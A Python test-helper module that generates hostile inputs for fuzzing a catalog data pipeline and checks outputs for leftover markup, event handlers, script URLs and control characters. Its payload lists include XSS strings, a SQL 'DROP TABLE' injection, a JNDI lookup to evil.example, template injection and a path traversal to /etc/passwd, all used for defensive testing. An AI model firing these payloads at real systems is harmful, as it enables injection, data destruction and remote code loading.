"""Hostile values and the checks every layer's output must pass, shared by the reliability tests.

The values are what real catalogs and attackers send: random unicode, control characters,
bidi overrides, markup with scripts, styles and event handlers (raw and entity-escaped),
``javascript:`` URLs, enormous and negative numbers, NaN and infinities, absurd durations,
dates out of range, SQL, template syntax and very long strings.
"""

from __future__ import annotations

import math
import re
from typing import Any

from hypothesis import strategies as st

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>body{display:none}</style>Styled",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)" onclick="steal()">Click</a>',
    '<p onmouseover="x()">Para</p>',
    "<iframe src='https://evil.example'></iframe>",
    "<svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<b>Bold</b> <i>course</i>",
    "<!-- comment --><![CDATA[cdata]]>",
]
SPECIAL = [
    "\x00", "\x01\x02\x03", "\x1b[31mred\x1b[0m", "\x7f", "\u202eevil\u202c", "\u2066iso\u2069", "\ufeff",
    "\u200b", "\u2028\u2029", "\r\n\t", "🎓" * 50, "Z̴̡̛͙a̷l̷g̷o̷", "'; DROP TABLE marts.fct_offering; --",
    '" OR 1=1 --', "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "A" * 20_000,
    "NaN", "nan", "Infinity", "-Infinity", "1e309", "-1e309", "1e400", "-0", "0x1F",
    "99999999999999999999999999999", "-50", "-50 USD", "$-0.01", "€ -1.000,00", "USD 1e300",
    "-5 weeks", "99999999999 years", "P99999Y", "PT-10H", "1e30 hours per week", "-10 hours",
    "0000-00-00", "99999-12-31", "1800-01-01", "2027-13-45", "-5000-01-01", "31/02/2027", "1e10",
]
NUMBERS = [math.nan, math.inf, -math.inf, -1.0, -0.0, 1e308, -1e308, 10**40, -(10**40), 2**63, -(2**63) - 1, 0]


def hostile_text() -> st.SearchStrategy[str]:
    """Strings a source may send, from random unicode to crafted attacks, and mixes of both."""
    unicode = st.text(st.characters(exclude_categories=("Cs",)), max_size=60)  # no lone surrogates: not encodable
    zoo = st.sampled_from(MARKUP + SPECIAL)
    return st.one_of(
        zoo, unicode,
        st.builds(lambda a, b, c: a + b + c, unicode, zoo, unicode),
        st.lists(zoo, min_size=2, max_size=4).map("".join),
    )


def hostile_number() -> st.SearchStrategy[Any]:
    return st.one_of(st.sampled_from(NUMBERS), st.floats(allow_nan=True, allow_infinity=True),
                     st.integers(min_value=-(10**30), max_value=10**30))


def hostile_scalar() -> st.SearchStrategy[Any]:
    return st.one_of(hostile_text(), hostile_number(), st.booleans(), st.none())


def deep(depth: int, leaf: Any = "x") -> Any:
    """A value nested ``depth`` levels deep (lists and objects alternating)."""
    value: Any = leaf
    for i in range(depth):
        value = [value] if i % 2 else {"n": value}
    return value


# --- what must never come out ---------------------------------------------------------------------

# An HTML/XML tag (opening, closing, self-closing), a comment or CDATA, an event-handler
# attribute, or a script URL. "a < b" and "<3" are text, not markup.
_TAG = re.compile(r"<\s*/?\s*[a-zA-Z][a-zA-Z0-9:-]*(\s[^<>]*)?/?\s*>|<!--|<!\[CDATA\[")
_HANDLER = re.compile(r"\bon[a-z]+\s*=\s*[\"'a-zA-Z]", re.I)
_SCRIPT_URL = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.I)
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


def markup_in(value: str) -> str | None:
    """What in ``value`` is markup, if anything."""
    for pattern in (_TAG, _HANDLER):
        m = pattern.search(value)
        if m:
            return m.group(0)[:80]
    return None


def control_in(value: str) -> str | None:
    m = _CONTROL.search(value)
    return repr(m.group(0)) if m else None


def script_url(value: str) -> bool:
    return bool(_SCRIPT_URL.match(value))


def strings(value: Any) -> list[str]:
    """Every string inside a cell value (lists and structs flattened)."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, list | tuple):
        return [s for v in value for s in strings(v)]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    return []


def offending_cells(rows: list[dict[str, Any]], columns: list[str], check) -> list[tuple[str, str, str]]:  # type: ignore[no-untyped-def]
    """(row key, column, what) for every string of ``columns`` that ``check`` flags."""
    out = []
    for row in rows:
        for col in columns:
            for text in strings(row.get(col)):
                found = check(text)
                if found:
                    out.append((str(row.get("source_key") or row.get("offering_id")), col, str(found)))
    return out
